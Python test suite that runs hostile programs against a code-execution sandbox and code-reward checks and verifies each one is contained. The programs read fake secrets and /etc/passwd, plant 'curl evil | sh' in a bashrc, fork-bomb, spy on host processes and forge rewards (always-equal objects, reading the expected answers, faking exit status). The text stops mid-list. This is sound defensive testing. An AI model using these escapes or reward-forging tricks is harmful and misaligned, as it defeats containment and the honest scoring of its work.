# ruff: noqa: E501  (the hostile programs are source strings; wrapping them hurts reading them)
"""Hostile programs against the sandbox and the code rewards: each must be contained (or refused).

Run on its own (as root, or as any user) from the repo root:

    PYTHONPATH=$PWD .venv/bin/python tests/code/hostile_suite.py [--json] [--workers 4]

and it prints one line per case and ``N contained, M escaped (mode)``; exit status 1 if any escaped.
``test_hostile.py`` runs it as root and as a throw-away unprivileged user. Every fixture (a fake
home with a secrets file, a fake repo, listeners, a host process to spy on) lives in a temp dir made
by the driver, so the suite never reads or writes the real $HOME.

"Contained" means: nothing outside the sandbox was read, written, reached or left behind, and every
aggregate stayed within the cap the run reports (``Isolation.memory_cap``: a cgroup for all processes
together, or, where no cgroup is ours, ``max_processes`` x ``memory_mb`` of RLIMIT_AS).
"""

from __future__ import annotations

import argparse
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

import hostile_kernel_state as hks
import hostile_machine_state as hms

from training_core.code.mbpp_game import play
from training_core.rewards import code as rc
from training_core.sandbox import (
    SandboxLimits,
    SandboxResult,
    SandboxUnavailable,
    Status,
    detect,
    run_python,
    set_level,
)
from training_core.sandbox.launcher import Launcher

REPO = Path(__file__).resolve().parents[2]
SMALL = SandboxLimits(
    timeout_s=1.5,
    memory_mb=256,
    total_memory_mb=512,
    max_processes=16,
    max_output_bytes=64 * 1024,
    max_file_bytes=64 << 20,
    disk_mb=16,
)


@dataclass
class Ctx:
    """Fixtures outside the sandbox that a hostile program tries to reach."""

    launcher: Launcher
    tmp: Path
    token: str = field(default_factory=lambda: uuid.uuid4().hex)
    hits: dict[str, int] = field(default_factory=dict)  # listener name -> connections received
    tcp_port: int = 0
    udp_port: int = 0
    spy: subprocess.Popen[bytes] | None = None
    _socks: list[socket.socket] = field(default_factory=list)

    @property
    def home(self) -> Path:
        return self.tmp / "home"

    @property
    def marker(self) -> str:
        return f"{int(self.token[:6], 16) % 100000 + 100000}.{self.token[6:10]}"

    def sub(self, code: str) -> str:
        for k, v in {
            "@TOKEN@": self.token,
            "@HOME@": str(self.home),
            "@TMP@": str(self.tmp),
            "@REPO@": str(REPO),
            "@MARKER@": self.marker,
            "@TCP@": str(self.tcp_port),
            "@UDP@": str(self.udp_port),
            "@PID@": str(os.getpid()),
        }.items():
            code = code.replace(k, v)
        return code

    def setup(self) -> None:
        (self.home / ".config" / "pippa").mkdir(parents=True)
        secrets = self.home / ".config" / "pippa" / "secrets.env"
        secrets.write_text(f"WANDB_API_KEY={self.token}\n")
        secrets.chmod(0o600)
        (self.home / ".bashrc").write_text(f"# bashrc {self.token}\n")
        (self.tmp / "repo").mkdir()
        (self.tmp / "repo" / "module.py").write_text("ORIGINAL = True\n")
        (self.tmp / "canary.txt").write_text(self.token)
        self._listen("tcp", socket.socket(socket.AF_INET, socket.SOCK_STREAM), ("127.0.0.1", 0))
        self._listen("unix", socket.socket(socket.AF_UNIX, socket.SOCK_STREAM), str(self.tmp / "s.sock"))
        self._listen("abstract", socket.socket(socket.AF_UNIX, socket.SOCK_STREAM), f"\0pippa-{self.token}")
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.bind(("127.0.0.1", 0))
        self.udp_port = udp.getsockname()[1]
        self._socks.append(udp)
        threading.Thread(target=self._recv_udp, args=(udp,), daemon=True).start()
        # a host process whose argv and environment a sandbox must not see
        self.spy = subprocess.Popen(
            [sys.executable, "-I", "-c", "import time; time.sleep(600)", self.marker],
            env={"PIPPA_SPY": self.token},
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )

    def _listen(self, name: str, s: socket.socket, addr: object) -> None:
        s.bind(addr)
        s.listen(8)
        if name == "tcp":
            self.tcp_port = s.getsockname()[1]
        self._socks.append(s)
        self.hits[name] = 0

        def accept() -> None:
            while True:
                try:
                    conn, _ = s.accept()
                except OSError:
                    return
                self.hits[name] += 1
                conn.close()

        threading.Thread(target=accept, daemon=True).start()

    def _recv_udp(self, s: socket.socket) -> None:
        self.hits["udp"] = 0
        while True:
            try:
                s.recv(100)
            except OSError:
                return
            self.hits["udp"] += 1

    def close(self) -> None:
        for s in self._socks:
            s.close()
        if self.spy:
            self.spy.kill()
            self.spy.wait()
        shutil.rmtree(self.tmp, ignore_errors=True)


@dataclass(frozen=True)
class Case:
    area: str
    name: str
    run: Callable[[Ctx], tuple[bool, str]]  # (contained, evidence)


def _survivors(marker: str) -> list[int]:
    found = []
    for e in os.listdir("/proc"):
        if e.isdigit():
            try:
                if f"{marker}-".encode() in Path(f"/proc/{e}/cmdline").read_bytes():
                    found.append(int(e))
            except OSError:
                continue
    return found


def prog(
    area: str,
    name: str,
    code: str,
    check: Callable[[SandboxResult, Ctx], bool],
    limits: SandboxLimits = SMALL,
) -> Case:
    def run(ctx: Ctx) -> tuple[bool, str]:
        r = run_python(ctx.sub(code), limits, ctx.launcher)
        return check(r, ctx), f"{r.status.value} {r.reason} out={r.stdout[-160:]!r} err={r.stderr[-160:]!r}"

    return Case(area, name, run)


def clean(r: SandboxResult, ctx: Ctx) -> bool:
    """The token (a secret, a canary, a spied process's environment) appears nowhere in the output."""
    return ctx.token not in r.stdout + r.stderr and "ESCAPED" not in r.stdout


def absent(path: str) -> Callable[[SandboxResult, Ctx], bool]:
    return lambda r, ctx: not Path(ctx.sub(path)).exists() and "ESCAPED" not in r.stdout


def unhit(listener: str) -> Callable[[SandboxResult, Ctx], bool]:
    def check(r: SandboxResult, ctx: Ctx) -> bool:
        time.sleep(0.05)
        return ctx.hits.get(listener, 0) == 0 and "ESCAPED" not in r.stdout

    return check


def aggregate_mib(ctx: Ctx, limits: SandboxLimits) -> int:
    """The memory all of a run's processes may hold together, as the isolation reports it."""
    iso = ctx.launcher.isolation
    if iso.memory_cap.startswith("cgroup"):
        return limits.total_memory_mb
    return limits.max_processes * limits.memory_mb


TRY = "try:\n    {}\n    print('ESCAPED')\nexcept Exception as e:\n    print('refused', type(e).__name__)\n"


def tried(stmt: str) -> str:
    return TRY.format(stmt)


NETWORK = [
    prog(
        "network",
        "tcp_to_host_listener",
        tried("import socket; socket.create_connection(('127.0.0.1', @TCP@), 1)"),
        unhit("tcp"),
    ),
    prog(
        "network",
        "tcp_to_internet",
        tried("import socket; socket.create_connection(('151.101.0.223', 443), 1)"),
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
    prog(
        "network",
        "dns_lookup",
        tried("import socket; socket.getaddrinfo('pypi.org', 443)"),
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
    prog(
        "network",
        "udp_to_host_listener",
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "for _ in range(5):\n    try:\n        s.sendto(b'x', ('127.0.0.1', @UDP@))\n    except OSError:\n  "
        "      pass\n",
        unhit("udp"),
    ),
    prog(
        "network",
        "interfaces_only_lo",
        "import socket\nnames = [n for _, n in socket.if_nameindex()]\nprint('ESCAPED' if set(names) - {'lo'"
        "} else 'lo only')",
        lambda r, c: r.ok and "lo only" in r.stdout,
    ),
    prog(
        "network",
        "abstract_unix_socket",
        tried("import socket; s = socket.socket(socket.AF_UNIX); s.connect('\\0pippa-@TOKEN@')"),
        unhit("abstract"),
    ),
]

FS_READ = [
    prog("fs_read", "secrets_env", tried("print(open('@HOME@/.config/pippa/secrets.env').read())"), clean),
    prog("fs_read", "bashrc", tried("print(open('@HOME@/.bashrc').read())"), clean),
    prog(
        "fs_read",
        "root_bashrc",
        tried("print(open('/root/.bashrc').read())"),
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
    prog(
        "fs_read",
        "repo_problems",
        tried("print(open('@REPO@/training_core/code/problems.py').read()[:50])"),
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
    prog(
        "fs_read",
        "etc_passwd",
        tried("print(open('/etc/passwd').read())"),
        lambda r, c: "root:x:0" not in r.stdout,
    ),
    prog("fs_read", "host_tmp_canary", tried("print(open('@TMP@/canary.txt').read())"), clean),
    prog(
        "fs_read",
        "walk_for_token",
        "import os\nfor top in ('/', ):\n    for d, _, fs in os.walk(top):\n        if d.startswith('/proc') or "
        "d.startswith('/usr'):\n            continue\n        for f in fs:\n            try:\n"
        "                if b'@TOKEN@' in open(os.path.join(d, f), 'rb').read(1 << 20):\n"
        "                    print('ESCAPED', d, f)\n            except OSError:\n                pass\nprint('walked')",
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
    prog(
        "fs_read",
        "sys_and_cgroups",
        tried("import os; assert os.listdir('/sys/fs/cgroup') or os.listdir('/sys')"),
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
    prog(
        "fs_read",
        "block_devices",
        "import os\nbad = [d for d in os.listdir('/dev') if d.startswith(('sd', 'vd', 'nvme', 'mem', 'kmsg', 'loop'))]\n"
        "print('ESCAPED' if bad else 'none', bad)",
        lambda r, c: r.ok and "none" in r.stdout,
    ),
]

FS_WRITE = [
    prog("fs_write", "home_file", tried("open('@HOME@/pwned', 'w').write('x')"), absent("@HOME@/pwned")),
    prog(
        "fs_write",
        "bashrc_append",
        tried("open('@HOME@/.bashrc', 'a').write('curl evil | sh')"),
        lambda r, c: "evil" not in (c.home / ".bashrc").read_text(),
    ),
    prog(
        "fs_write",
        "repo_module",
        tried("open('@TMP@/repo/module.py', 'w').write('ORIGINAL = False')"),
        lambda r, c: (c.tmp / "repo" / "module.py").read_text() == "ORIGINAL = True\n",
    ),
    prog("fs_write", "host_tmp", tried("open('@TMP@/dropped', 'w').write('x')"), absent("@TMP@/dropped")),
    prog(
        "fs_write",
        "var_tmp",
        tried("open('/var/tmp/pippa-@TOKEN@', 'w').write('x')"),
        absent("/var/tmp/pippa-@TOKEN@"),
    ),
    prog(
        "fs_write",
        "usr",
        tried("open('/usr/lib/pippa-@TOKEN@', 'w').write('x')"),
        absent("/usr/lib/pippa-@TOKEN@"),
    ),
    prog(
        "fs_write",
        "sandbox_root",
        tried("open('/pippa-@TOKEN@', 'w').write('x')"),
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
    prog(
        "fs_write",
        "dev_node",
        tried("open('/dev/pippa', 'w').write('x')"),
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
]


def _two_runs(area: str, name: str, write: str, read: str) -> Case:
    def run(ctx: Ctx) -> tuple[bool, str]:
        run_python(ctx.sub(write), SMALL, ctx.launcher)
        r = run_python(ctx.sub(tried(read)), SMALL, ctx.launcher)
        return "ESCAPED" not in r.stdout, r.stdout[-160:]

    return Case(area, name, run)


def _concurrent(ctx: Ctx) -> tuple[bool, str]:
    """A sandbox must not see a concurrent one's files or processes."""
    a = (
        "import time\nopen('/tmp/shared-@TOKEN@', 'w').write('x')\nopen('/dev/shm/shared-@TOKEN@', 'w').write('x')\n"
        "time.sleep(1.2)"
    )
    b = (
        "import os, time\ntime.sleep(0.4)\nfor p in ('/tmp/shared-@TOKEN@', '/dev/shm/shared-@TOKEN@'):\n"
        "    if os.path.exists(p):\n        print('ESCAPED', p)\n"
        "for e in os.listdir('/proc'):\n    if e.isdigit():\n        try:\n"
        "            if b'time.sleep(1.2)' in open('/proc/%s/cmdline' % e, 'rb').read():\n"
        "                print('ESCAPED pid', e)\n        except OSError:\n            pass\n"
    )
    with ThreadPoolExecutor(2) as ex:
        fa = ex.submit(run_python, ctx.sub(a), SMALL, ctx.launcher)
        rb = ex.submit(run_python, ctx.sub(b), SMALL, ctx.launcher).result()
        fa.result()
    return "ESCAPED" not in rb.stdout and rb.ok, rb.stdout[-160:]


def _survivor_case(name: str, code: str) -> Case:
    def run(ctx: Ctx) -> tuple[bool, str]:
        marker = f"{ctx.marker}-{name}"
        r = run_python(ctx.sub(code).replace("@M@", marker), SMALL, ctx.launcher)
        # run_python returns once the namespace's init has exited; a process the kernel is still tearing
        # down can show in /proc a moment longer (seen once in 8 under a delegated cgroup): a survivor is
        # one still there after 2 s (each case's process would live 30 s)
        deadline = time.monotonic() + 2.0
        while (left := _survivors(ctx.marker)) and time.monotonic() < deadline:
            time.sleep(0.05)
        for pid in left:
            os.kill(pid, signal.SIGKILL)
        return not left, f"{r.status.value} survivors={left}"

    return Case("persistence", name, run)


PERSISTENCE = [
    _two_runs(
        "persistence",
        "tmp_between_runs",
        "open('/tmp/state', 'w').write('@TOKEN@')",
        "print(open('/tmp/state').read())",
    ),
    _two_runs(
        "persistence",
        "shm_between_runs",
        "open('/dev/shm/state', 'w').write('@TOKEN@')",
        "print(open('/dev/shm/state').read())",
    ),
    _two_runs(
        "persistence",
        "cwd_between_runs",
        "open('state', 'w').write('@TOKEN@')",
        "print(open('state').read())",
    ),
    Case("persistence", "concurrent_sandbox", _concurrent),
    _survivor_case(
        "setsid_double_fork",
        "import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        os.execv('/bin/sleep', ['sleep', '30', '@M@-'])\n    os._exit(0)\nos.wait()\nprint('bye')",
    ),
    _survivor_case(
        "background_popen",
        "import subprocess\nsubprocess.Popen(['/bin/sleep', '30', '@M@-'], start_new_session=True)\nprint('bye')",
    ),
    _survivor_case(
        "daemon_after_timeout",
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    os.execv('/bin/sleep', ['sleep', '30', '@M@-'])\n"
        "while True:\n    pass",
    ),
]

PROCESSES = [
    prog(
        "processes",
        "see_host_processes",
        "import os\npids = [e for e in os.listdir('/proc') if e.isdigit()]\nprint(len(pids))\n"
        "for p in pids:\n    try:\n        c = open('/proc/%s/cmdline' % p, 'rb').read() + open('/proc/%s/environ' % p, 'rb').read()\n"
        "        if b'@MARKER@' in c or b'@TOKEN@' in c:\n            print('ESCAPED', p)\n    except OSError:\n        pass\n",
        lambda r, c: r.ok and "ESCAPED" not in r.stdout and int(r.stdout.split()[0]) <= 3,
    ),
    prog(
        "processes",
        "signal_the_driver",
        tried("import os, signal; os.kill(@PID@, 0)"),
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
    prog(
        "processes",
        "kill_everything",
        "import os, signal\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError:\n    pass\n",
        lambda r, c: c.spy is not None and c.spy.poll() is None,
    ),
    prog(
        "processes",
        "ptrace_driver_mem",
        tried("open('/proc/@PID@/mem', 'rb')"),
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
    prog(
        "processes",
        "setuid_root",
        tried("import os; os.setuid(0); assert os.getuid() == 0"),
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
    prog(
        "processes",
        "capabilities",
        "import re\ns = open('/proc/self/status').read()\ncaps = re.findall(r'Cap(?:Eff|Prm|Amb):\\s+(\\w+)', s)\n"
        "print('ESCAPED' if any(int(c, 16) for c in caps) else 'none', caps)",
        lambda r, c: r.ok and "none" in r.stdout,
    ),
    prog(
        "processes",
        "new_user_namespace",
        tried(
            "import subprocess; subprocess.run(['unshare', '-Ur', 'true'], check=True, capture_output=True)"
        ),
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
    prog(
        "processes",
        "mount_tmpfs",
        tried(
            "import subprocess; subprocess.run(['mount', '-t', 'tmpfs', 'x', '/tmp'], check=True, capture_output=True)"
        ),
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
    prog(
        "processes",
        "raise_rlimits",
        tried("import resource as R; R.setrlimit(R.RLIMIT_AS, (R.RLIM_INFINITY, R.RLIM_INFINITY))"),
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
    prog(
        "processes",
        "fork_bomb",
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
        lambda r, c: r.status in (Status.TIMEOUT, Status.RUNTIME_ERROR, Status.KILLED),
    ),
]


def _memory(ctx: Ctx) -> tuple[bool, str]:
    """14 children x 100 MiB each: the run must not hold more than its aggregate cap at once."""
    lim = SandboxLimits(timeout_s=5.0, memory_mb=128, total_memory_mb=512, max_processes=16, disk_mb=16)
    code = (
        "import os, sys, time\nkids = []\nfor i in range(14):\n    pid = os.fork()\n    if pid == 0:\n"
        "        try:\n            b = b'x' * (100 << 20)\n            time.sleep(1.0)\n"
        "            sys.stdout.write('held\\n'); sys.stdout.flush()\n"
        "        except MemoryError:\n            pass\n        os._exit(0)\n"
        "    kids.append(pid)\nfor k in kids:\n    os.waitpid(k, 0)\n"
    )
    r = run_python(code, lim, ctx.launcher)
    held = r.stdout.count("held") * 100  # children still alive, holding 100 MiB, 1 s after allocating
    cap = aggregate_mib(ctx, lim)
    return (
        held <= cap,
        f"held {held} MiB at once (cap {cap} MiB, {ctx.launcher.isolation.memory_cap}) {r.reason}",
    )


def _disk(path: str) -> Callable[[Ctx], tuple[bool, str]]:
    def run(ctx: Ctx) -> tuple[bool, str]:
        code = (
            f"n = 0\ntry:\n    with open('{path}', 'wb') as f:\n        for _ in range(256):\n"
            "            f.write(b'x' * (1 << 20))\n            f.flush()\n            n += 1\n"
            "except OSError as e:\n    print(type(e).__name__)\nprint(n)"
        )
        r = run_python(code, SMALL, ctx.launcher)
        n = int(r.stdout.split()[-1]) if r.stdout.split() and r.stdout.split()[-1].isdigit() else 0
        return n <= SMALL.disk_mb, f"wrote {n} MiB (cap {SMALL.disk_mb} MiB) {r.reason}"

    return run


def _threads(ctx: Ctx) -> tuple[bool, str]:
    code = (
        "import threading, time\nn = 0\ntry:\n    for _ in range(500):\n"
        "        threading.Thread(target=time.sleep, args=(1,), daemon=True).start()\n        n += 1\n"
        "except RuntimeError:\n    pass\nprint(n)"
    )
    r = run_python(code, SMALL, ctx.launcher)
    n = int(r.stdout.split()[0]) if r.stdout.strip().isdigit() else 0
    return n < SMALL.max_processes, f"started {n} threads (cap {SMALL.max_processes} tasks) {r.reason}"


RESOURCES = [
    Case("resources", "memory_in_14_children", _memory),
    Case("resources", "disk_tmp", _disk("/tmp/big")),
    Case("resources", "disk_dev_shm", _disk("/dev/shm/big")),
    Case("resources", "disk_cwd", _disk("big")),
    Case("resources", "threads", _threads),
    prog(
        "resources",
        "cpu_in_threads",
        "import threading\ndef spin():\n    while True:\n        pass\nfor _ in range(4):\n    threading.Thread(target=spin).start()",
        lambda r, c: r.status is Status.TIMEOUT and r.duration_s < SMALL.timeout_s + 1.0,
    ),
    prog(
        "resources",
        "output_flood",
        "import sys\nwhile True:\n    sys.stdout.write('x' * 65536)",
        lambda r, c: r.status is Status.OUTPUT_LIMIT and len(r.stdout) <= SMALL.max_output_bytes,
    ),
]

SOCKETS = [
    prog(
        "sockets",
        "host_unix_socket_file",
        tried("import socket; s = socket.socket(socket.AF_UNIX); s.connect('@TMP@/s.sock')"),
        unhit("unix"),
    ),
    prog(
        "sockets",
        "well_known_sockets",
        "import glob, socket\nfor p in glob.glob('/run/**/*.sock', recursive=True) + glob.glob('/var/run/*.sock') + "
        "glob.glob('/tmp/**/*.sock', recursive=True) + ['/run/systemd/private', '/var/run/docker.sock']:\n"
        "    s = socket.socket(socket.AF_UNIX)\n    try:\n        s.connect(p)\n        print('ESCAPED', p)\n"
        "    except OSError:\n        pass\nprint('done')",
        lambda r, c: r.ok and "ESCAPED" not in r.stdout,
    ),
    prog(
        "sockets",
        "sysv_ipc_and_netlink",
        tried(
            "import socket; s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); s.bind((0, 0)); "
            "assert open('/proc/sysvipc/shm').read().count('\\n') > 1"
        ),
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
]


def _nr(name: str) -> int:
    import pyseccomp

    return pyseccomp.resolve_syscall(pyseccomp.Arch.NATIVE, name)


def called(name: str, *args: str, before: str = "") -> str:
    """A program calling syscall ``name`` through libc (arguments as Python source: ``L(3)``, b'..');
    it prints ESCAPED when the call succeeds."""
    return (
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.syscall.restype = ctypes.c_long\n"
        f"L = ctypes.c_long\n{before}r = libc.syscall(L({_nr(name)}), {', '.join(args)})\n"
        "print('ESCAPED' if r >= 0 else 'refused', r, ctypes.get_errno())\n"
    )


def _lock_channel(ctx: Ctx) -> tuple[bool, str]:
    """Two concurrent sandboxes: one locks a shared /usr file, the other tests the lock (a bit)."""
    a = (
        "import fcntl, time\nf = open('/usr/bin/env')\ntry:\n    fcntl.flock(f, fcntl.LOCK_EX)\n    print('locked')\n"
        "except OSError as e:\n    print('refused', e.errno)\ntry:\n    fcntl.lockf(open('/tmp/x', 'w'), fcntl.LOCK_EX)\n"
        "except OSError:\n    pass\ntime.sleep(1.2)"
    )
    b = (
        "import fcntl, time\ntime.sleep(0.4)\nf = open('/usr/bin/env')\ntry:\n    fcntl.flock(f, fcntl.LOCK_EX | fcntl.LOCK_NB)\n"
        "    print('free')\nexcept BlockingIOError:\n    print('ESCAPED: saw the other sandbox lock')\nexcept OSError as e:\n"
        "    print('refused', e.errno)\n"
    )
    with ThreadPoolExecutor(2) as ex:
        fa = ex.submit(run_python, a, SMALL, ctx.launcher)
        rb = ex.submit(run_python, b, SMALL, ctx.launcher).result()
        ra = fa.result()
    return (
        "ESCAPED" not in rb.stdout and "locked" not in ra.stdout,
        f"a={ra.stdout.strip()!r} b={rb.stdout.strip()!r}",
    )


def _keyring_between_runs(ctx: Ctx) -> tuple[bool, str]:
    """Run 1 adds a key to its session, user and user-session keyrings; run 2 looks for it; so does the host."""
    desc = f"pippa-{ctx.token[:12]}"
    for ring in (-3, -4, -5):
        run_python(
            called("add_key", "b'user'", f"b'{desc}'", "b'x'", "L(1)", f"L({ring})"), SMALL, ctx.launcher
        )
    find = (
        called("request_key", "b'user'", f"b'{desc}'", "None", "L(0)")
        + f"print('ESCAPED' if '{desc}' in open('/proc/keys').read() else 'not listed')\n"
    )
    r = run_python(find, SMALL, ctx.launcher)
    host = Path("/proc/keys").read_text()
    return "ESCAPED" not in r.stdout and desc not in host, r.stdout[-160:]


KERNEL = [
    prog(
        "kernel_keyring",
        "read_session_keyring",
        called("keyctl", "L(11)", "L(-3)", "L(0)", "L(0)"),  # KEYCTL_READ
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
    prog(
        "kernel_keyring",
        "clear_session_keyring",
        called("keyctl", "L(7)", "L(-3)"),  # KEYCTL_CLEAR
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
    prog(
        "kernel_keyring",
        "join_named_keyring",
        called("keyctl", "L(1)", "b'pippa-shared-@TOKEN@'"),
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
    prog(
        "kernel_keyring",
        "request_key_dns_upcall",
        called("request_key", "b'dns_resolver'", "b'pypi.org'", "None", "L(0)"),
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
    Case("kernel_keyring", "keyring_between_runs", _keyring_between_runs),
    prog(
        "shared_state",
        "flock_usr_file",
        tried("import fcntl; fcntl.flock(open('/usr/bin/env'), fcntl.LOCK_SH)"),
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
    prog(
        "shared_state",
        "fcntl_lock_usr_file",
        tried("import fcntl; fcntl.lockf(open('/usr/bin/env'), fcntl.LOCK_SH)"),
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
    Case("shared_state", "lock_channel_between_sandboxes", _lock_channel),
    prog(
        "shared_state",
        "inotify_on_usr",
        called("inotify_init1", "L(0)"),
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
    prog(
        "shared_state",
        "fanotify",
        called("fanotify_init", "L(0x200)", "L(0)"),
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
    prog(
        "shared_state",
        "dnotify_on_tmp",
        tried("import fcntl, os; fcntl.fcntl(os.open('/tmp', os.O_RDONLY), fcntl.F_NOTIFY, fcntl.DN_ACCESS)"),
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
    prog(
        "uncounted_memory",
        "sysv_shm",
        called("shmget", "L(0)", "L(256 << 20)", "L(0o1600)"),
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
    prog(
        "uncounted_memory",
        "memfd",
        tried("import os; os.memfd_create('x')"),
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
    prog(
        "uncounted_memory",
        "tmpfs_xattrs",
        tried("open('/tmp/x', 'w').close(); import os; os.setxattr('/tmp/x', 'user.a', b'x' * 65536)"),
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
    prog(
        "kernel_interfaces",
        "io_uring",
        called("io_uring_setup", "L(8)", "ctypes.create_string_buffer(120)"),
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
    prog(
        "kernel_interfaces",
        "userfaultfd",
        called("userfaultfd", "L(1)"),
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
    prog(
        "kernel_interfaces",
        "ptrace_traceme",
        called("ptrace", "L(0)", "L(0)", "L(0)", "L(0)"),
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
    prog(
        "kernel_interfaces",
        "personality",
        called("personality", "L(0x0040000)"),  # ADDR_NO_RANDOMIZE
        lambda r, c: "ESCAPED" not in r.stdout,
    ),
]


SQUARE = ["assert square(2) == 4", "assert square(-3) == 9"]
FORGERIES = {
    "always_equal": "class Yes:\n    def __eq__(self, other):\n        return True\ndef square(x):\n    return Yes()",
    "shadow_builtin": "def set(*a):\n    return 1\ndef square(x):\n    return [7]",
    "own_file": "import re\nA = dict(re.findall(r'square\\((-?\\d+)\\) == (-?\\d+)', open(__file__).read()))\n"
    "def square(x):\n    return int(A[str(x)])",
    "patch_prelude": "import os\nos._exit = lambda c: None\nos.write = lambda fd, b: len(b)\ndef square(x):\n    return 0\n"
    "raise SystemExit(0)",
    "status_byte": "import os\nfor fd in range(3, 64):\n    try:\n        os.write(fd, b'D')\n    except OSError:\n"
    "        pass\nos._exit(0)",
}


def _forgery(name: str, code: str) -> Case:
    def run(ctx: Ctx) -> tuple[bool, str]:
        tests = SQUARE if name != "shadow_builtin" else ["assert set(square(2)) == set([4])"]
        got = rc.assert_tests([code], test_list=[tests])
        return got == [0.0], f"reward {got}"

    return Case("reward_forging", f"assert_tests_{name}", run)


def _test_cases_repo(ctx: Ctx) -> tuple[bool, str]:
    code = (
        "import re\nEXP = {}\ntry:\n    src = open('@REPO@/training_core/code/problems.py').read()\n"
        '    EXP = dict(re.findall(r\'\\("print\\(add\\((.*?)\\)\\)", "(.*?)"\\)\', src))\nexcept OSError:\n    pass\n'
        "def add(a, b):\n    return int(EXP.get(f'{a}, {b}', 0))\n"
    )
    tests = [
        {"program": "print(add(2, 3))", "expected": "5"},
        {"program": "print(add(10, 32))", "expected": "42"},
    ]
    got = rc.test_cases([ctx.sub(code)], tests=[tests])
    return got == [0.0], f"reward {got}"


def _game(ctx: Ctx) -> tuple[bool, str]:
    progs = [
        "import os\nprint(int.from_bytes(os.urandom(6), 'big'))",
        "print(hash('x'))",
        "import time\nprint(time.time_ns())",
        "import time\nprint(int(time.time()))",
        "import time\nprint(int(time.monotonic()))",
    ]
    got = play(progs, lambda ps: ["<answer>0</answer>"] * len(ps))
    return got == [-1.0] * len(progs), f"rewards {got}"


def _forged_values(ctx: Ctx) -> tuple[bool, str]:
    """Three programs forge values (nested 400 deep, 15,000 ints that hash alike, 60,000 nodes) next
    to a correct one: the forgers get 0, the correct one 1 (test_judge.py bounds the CPU it costs)."""

    def forger(payload: str) -> str:
        return (
            "import os\n" + payload + "\nline = b'V' + value.encode() + b'\\nD'\n"
            "for fd in range(3, 64):\n    try:\n        os.write(fd, line)\n    except OSError:\n"
            "        pass\nos._exit(0)\n"
        )

    m = (1 << 61) - 1
    progs = [
        forger("value = '[' + '[\"l\",[' * 400 + '[\"i\",\"4\"]' + ']]' * 400 + ',[\"i\",\"9\"]]'"),
        forger(
            f"items = ','.join('[\"i\",\"%x\"]' % (k * {m} + 4) for k in range(15000))\n"
            'value = \'[["S",[\' + items + \']],["i","9"]]\''
        ),
        forger(
            'inner = \'["l",[["n"],["n"],["n"]]]\'\n'
            "value = '[[\"l\",[' + ','.join([inner] * 15000) + ']],[\"i\",\"9\"]]'"
        ),
        "def square(x):\n    return x * x",
    ]
    got = rc.assert_tests(progs, test_list=[SQUARE] * 4)
    return got == [0.0, 0.0, 0.0, 1.0], f"rewards {got}"


FORGING = [_forgery(n, c) for n, c in FORGERIES.items()] + [
    Case("reward_forging", "assert_tests_forged_values", _forged_values),
    Case("reward_forging", "test_cases_reads_repo", _test_cases_repo),
    Case("reward_forging", "code_game_random_output", _game),
]


def _kernel_state(name: str, channel: Callable[[Callable[[str], SandboxResult]], tuple[bool, str]]) -> Case:
    return Case("kernel_state", name, lambda ctx: channel(lambda code: run_python(code, SMALL, ctx.launcher)))


KERNEL_STATE = [
    _kernel_state("page_cache_between_runs", hks.page_cache_between_runs),
    _kernel_state("page_cache_concurrent", hks.page_cache_concurrent),
    _kernel_state("futex_between_sandboxes", hks.futex_between_sandboxes),
    Case("reward_forging", "code_game_remembers_in_page_cache", lambda ctx: hks.game_remembers(play)),
    Case(
        "reward_forging",
        "code_game_remembers_by_fault_around",
        lambda ctx: hks.game_remembers_by_fault_around(play),
    ),
] + [
    prog("kernel_state", name, code.replace("@FILE@", "/usr/bin/env"), lambda r, c: "ESCAPED" not in r.stdout)
    for name, code in hks.single_calls().items()
]


def _machine_game(ctx: Ctx) -> tuple[bool, str]:
    """The code game against programs that read machine-wide state: each invalid (-1), never a win."""
    progs = [*hms.GAME.values(), "print(6 * 7)"]
    got = play(progs, lambda ps: ["<answer>0</answer>"] * len(ps))
    return got == [-1.0] * len(hms.GAME) + [1.0], f"rewards {got} ({', '.join(hms.GAME)}, honest)"


MACHINE_STATE = (
    [
        Case("machine_state", name, lambda ctx, ch=ch: ch(lambda code: run_python(code, SMALL, ctx.launcher)))
        for name, ch in hms.CHANNELS.items()
    ]
    + [
